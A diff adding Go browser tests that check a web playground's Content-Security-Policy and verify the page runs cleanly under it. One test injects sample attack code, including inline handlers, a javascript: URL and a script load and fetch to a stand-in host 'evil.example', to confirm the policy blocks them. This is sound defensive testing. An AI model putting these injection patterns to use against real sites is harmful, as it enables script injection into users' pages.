@@ -1,0 +1,264 @@
+//go:build !js
+
+package page
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	cdppage "github.com/chromedp/cdproto/page"
+	"github.com/chromedp/chromedp"
+
+	"minis3/browser_test/chrome"
+)
+
+// pagePolicy is the Content-Security-Policy of static/index.html, and the
+// header a static host should send with the page (docs/RELIABILITY.md,
+// "Page"). frame-ancestors is left out on purpose: course pages embed the
+// playground in an iframe.
+const pagePolicy = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'"
+
+// watcher runs in every document of a watched tab before the page's own
+// scripts. It records Content-Security-Policy violations, uncaught errors,
+// failed resource loads and unhandled promise rejections in
+// window.__problems.
+const watcher = `(() => {
+	const seen = [];
+	Object.defineProperty(window, "__problems", { value: seen });
+	addEventListener("securitypolicyviolation", (e) => seen.push("csp " + e.effectiveDirective + " blocked " + e.blockedURI + " " + e.sample), true);
+	addEventListener("error", (e) => seen.push("error " + (e.message || (e.target instanceof Element ? "loading " + e.target.tagName : e.type))), true);
+	addEventListener("unhandledrejection", (e) => seen.push("unhandled rejection " + String(e.reason && e.reason.message || e.reason)));
+})();`
+
+// openWatched is open with the watcher installed before the first load.
+func openWatched(t *testing.T, url string, w, h int64) *chrome.Page {
+	t.Helper()
+	p := chrome.Launch(t).Open(t, "about:blank")
+	do(t, p, chromedp.EmulateViewport(w, h))
+	ctx, cancel := context.WithTimeout(p.Context(), chrome.EvalTimeout)
+	defer cancel()
+	if _, err := chromedp.Call(ctx, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: watcher}); err != nil {
+		t.Fatalf("installing the watcher: %v", err)
+	}
+	p.Navigate(t, url)
+	return p
+}
+
+// problems returns what the watcher recorded in the document reached by
+// doc (a JavaScript expression for a Document), and the console's errors
+// and uncaught exceptions.
+func problems(t *testing.T, p *chrome.Page, doc string) []string {
+	t.Helper()
+	got := chrome.Eval[[]string](t, p, `const w = (`+doc+`).defaultView; return w.__problems ? [...w.__problems] : ["the watcher is not installed"]`)
+	for _, line := range p.Console() {
+		if strings.HasPrefix(line, "error: ") || strings.HasPrefix(line, "exception: ") {
+			got = append(got, "console "+line)
+		}
+	}
+	return got
+}
+
+func wantNoProblems(t *testing.T, p *chrome.Page) {
+	t.Helper()
+	for _, line := range problems(t, p, "document") {
+		t.Errorf("page problem: %s", line)
+	}
+}
+
+// policySite serves the playground with pagePolicy as an HTTP header on
+// every file of static/ (the page then runs under the header and its meta
+// tag), and testdata/ under /test/ without it, as a course site would.
+func policySite(t *testing.T) string {
+	t.Helper()
+	static := http.FileServer(http.Dir(chrome.Static(t)))
+	course := http.StripPrefix("/test", http.FileServer(http.Dir("testdata")))
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Cache-Control", "no-store")
+		if strings.HasPrefix(r.URL.Path, "/test/") {
+			course.ServeHTTP(w, r)
+			return
+		}
+		w.Header().Set("Content-Security-Policy", pagePolicy)
+		if strings.HasSuffix(r.URL.Path, ".wasm") {
+			w.Header().Set("Content-Type", "application/wasm")
+		}
+		static.ServeHTTP(w, r)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL
+}
+
+// TestIndexPolicyForbidsInlineAndRemote reads the policy of static/index.html:
+// it is pagePolicy, which allows scripts and styles from the page's own
+// origin only (no inline code, no eval, no remote origin), WebAssembly
+// compilation, and no directive a meta tag cannot carry.
+func TestIndexPolicyForbidsInlineAndRemote(t *testing.T) {
+	html, err := os.ReadFile(filepath.Join(chrome.RepoRoot(t), "static", "index.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindAllSubmatch(html, -1)
+	if len(m) != 1 {
+		t.Fatalf("index.html has %d Content-Security-Policy meta tags, want 1", len(m))
+	}
+	policy := string(m[0][1])
+	if policy != pagePolicy {
+		t.Errorf("index.html policy\n%s\nwant (the documented header)\n%s", policy, pagePolicy)
+	}
+	directives := map[string][]string{}
+	for _, d := range strings.Split(policy, ";") {
+		f := strings.Fields(d)
+		if len(f) > 0 {
+			directives[f[0]] = f[1:]
+		}
+	}
+	for name, sources := range directives {
+		for _, s := range sources {
+			if s != "'self'" && s != "'none'" && !(name == "script-src" && s == "'wasm-unsafe-eval'") {
+				t.Errorf("%s allows %s", name, s)
+			}
+		}
+	}
+	for _, name := range []string{"default-src", "script-src", "style-src", "connect-src", "object-src", "base-uri", "form-action"} {
+		if directives[name] == nil {
+			t.Errorf("the policy lacks %s", name)
+		}
+	}
+	if !slices.Equal(directives["default-src"], []string{"'none'"}) {
+		t.Errorf("default-src %v, want 'none'", directives["default-src"])
+	}
+	for _, name := range []string{"frame-ancestors", "sandbox", "report-uri"} {
+		if directives[name] != nil {
+			t.Errorf("%s is ignored in a meta tag; send it as a header", name)
+		}
+	}
+}
+
+// TestFullFlowRunsUnderPolicy clicks through every feature of the page
+// served with the policy as a header as well, and requires that nothing was
+// blocked and nothing failed: no violation event, no uncaught error, no
+// unhandled rejection, no console error.
+func TestFullFlowRunsUnderPolicy(t *testing.T) {
+	p := openWatched(t, policySite(t)+"/", 1280, 800)
+	noDialogs(t, p)
+	waitReady(t, p)
+	act(t, p, typeInto("#new-bucket", "demo"), click("#create-bucket-form button[type=submit]"))
+	act(t, p, click("#enable-btn"))
+	act(t, p, typeInto("#obj-key", "logs/app.log"), typeInto("#obj-body", "old"), click("#put-btn"))
+	setClock(t, p, "5")
+	act(t, p, typeInto("#obj-body", "current"), click("#put-btn"))
+	do(t, p, click("#add-rule-btn"), typeInto("#rule-0-id", "logs"), typeInto("#rule-0-prefix", "logs/"), typeInto("#rule-0-noncurrent", "1"))
+	p.WaitFor(t, `!document.getElementById("tick-btn").disabled`)
+	act(t, p, click(`button.step-btn[data-step="5"]`))
+	act(t, p, click("#preview-btn"))
+	act(t, p, click("#tick-btn"))
+	act(t, p, click("#get-btn"))
+	act(t, p, click("#delete-btn"))
+	act(t, p, typeInto("#mp-key", "big/file"), typeInto("#mp-parts", "hello\nworld"), click("#multipart-form button[type=submit]"))
+	chrome.Eval[bool](t, p, `for (const d of document.querySelectorAll("#history details")) d.open = true; return true`)
+	runScenario(t, p, "worked-example")
+	do(t, p, click("#share-btn"))
+	p.WaitFor(t, `document.getElementById("share-dialog").open`)
+	link := chrome.Eval[string](t, p, `return document.getElementById("share-url").value`)
+	do(t, p, click(`#share-dialog button[value="close"]`))
+	do(t, p, click("#reset-btn"))
+	p.WaitFor(t, `document.getElementById("confirm-dialog").open`)
+	do(t, p, click("#confirm-ok"))
+	p.WaitFor(t, `document.getElementById("status").textContent.includes("empty again")`)
+	wantNoProblems(t, p)
+
+	// A query makes the navigation load the page again (with the fragment
+	// alone it would only fire hashchange).
+	p.Navigate(t, strings.Replace(link, "/#", "/?opened=1#", 1))
+	waitReady(t, p)
+	p.WaitFor(t, `document.getElementById("status").textContent.startsWith("Restored")`)
+	wantNoProblems(t, p)
+}
+
+// TestPolicyBlocksInjectedCode proves the policy is active in the page: an
+// inline event handler, an inline script, a remote script, a fetch to
+// another origin, eval, a javascript: URL and an inline style attribute,
+// each added through the DOM, are blocked with a violation event, and none
+// of the code runs.
+func TestPolicyBlocksInjectedCode(t *testing.T) {
+	p := openWatched(t, site(t)+"/", 1280, 800)
+	waitReady(t, p)
+	got := chrome.Eval[map[string]bool](t, p, `
+		const img = document.createElement("img");
+		img.setAttribute("onerror", "window.__pwned = 'onerror'");
+		img.src = "missing.png";
+		document.body.append(img);
+		const inline = document.createElement("script");
+		inline.textContent = "window.__pwned = 'inline script'";
+		document.body.append(inline);
+		const remote = document.createElement("script");
+		remote.src = "https://evil.example/x.js";
+		document.body.append(remote);
+		let fetchBlocked = false;
+		try { await fetch("https://evil.example/data"); } catch { fetchBlocked = true; }
+		setTimeout("window.__pwned = 'string timer'");
+		const a = document.createElement("a");
+		a.href = "javascript:window.__pwned = 'javascript url'";
+		document.body.append(a);
+		a.click();
+		const styled = document.createElement("p");
+		styled.setAttribute("style", "color: red");
+		document.body.append(styled);
+		return { fetchBlocked, styleBlocked: getComputedStyle(styled).color !== "rgb(255, 0, 0)" };`)
+	for name, ok := range got {
+		if !ok {
+			t.Errorf("%s: false", name)
+		}
+	}
+	p.WaitFor(t, `document.querySelector("img[onerror]").complete`)
+	// One violation per injection (the inline script and the javascript:
+	// URL both count as script-src-elem "inline").
+	want := []string{
+		"csp script-src-attr blocked inline",
+		"csp script-src-elem blocked inline",
+		"csp script-src-elem blocked https://evil.example/x.js",
+		"csp connect-src blocked https://evil.example/data",
+		"csp script-src blocked eval",
+		"csp script-src-elem blocked inline",
+		"csp style-src-attr blocked inline",
+	}
+	p.WaitFor(t, `(() => {
+		const seen = window.__problems.map((x) => x.trim());
+		return `+quote(strings.Join(want, "\n"))+`.split("\n").every((w, i, all) => seen.filter((x) => x === w).length >= all.filter((x) => x === w).length);
+	})()`)
+	if v := chrome.Eval[any](t, p, `return window.__pwned ?? null`); v != nil {
+		t.Errorf("injected code ran: window.__pwned = %v", v)
+	}
+	// The remote script is refused before any request: the page stays usable.
+	act(t, p, typeInto("#new-bucket", "after"), click("#create-bucket-form button[type=submit]"))
+	if got := text(t, p, "#bucket-select"); got != "after" {
+		t.Errorf("bucket list %q after the blocked code, want after", got)
+	}
+}
+
+// TestEmbedUnderPolicyHeader embeds the playground, served with the policy
+// header, in a course page of another document: the header has no
+// frame-ancestors, so the iframe loads, and the embed runs its scenario
+// without a violation inside the frame.
+func TestEmbedUnderPolicyHeader(t *testing.T) {
+	p := openWatched(t, policySite(t)+"/test/embed.html", 1280, 900)
+	const doc = `document.getElementById("a").contentDocument`
+	p.WaitFor(t, doc+`?.getElementById("load-btn") && !`+doc+`.getElementById("load-btn").hidden`)
+	chrome.Eval[bool](t, p, `return `+doc+`.getElementById("load-btn").click() ?? true`)
+	p.WaitFor(t, doc+`.body.dataset.ready === "true" && `+doc+`.getElementById("scenario-summary").textContent.includes("0 of ")`)
+	chrome.Eval[bool](t, p, `return `+doc+`.getElementById("scenario-run-btn").click() ?? true`)
+	p.WaitFor(t, `(() => { const m = `+doc+`.getElementById("scenario-summary").textContent.match(/(\d+) of (\d+) steps run/); return m && m[1] === m[2] && !`+doc+`.body.classList.contains("busy"); })()`)
+	if got := chrome.Eval[string](t, p, `return `+doc+`.getElementById("scenario-summary").textContent`); !strings.Contains(got, "checks passed") {
+		t.Errorf("embed under the policy header: %q", got)
+	}
+	for _, line := range problems(t, p, doc) {
+		t.Errorf("problem in the embed: %s", line)
+	}
+}
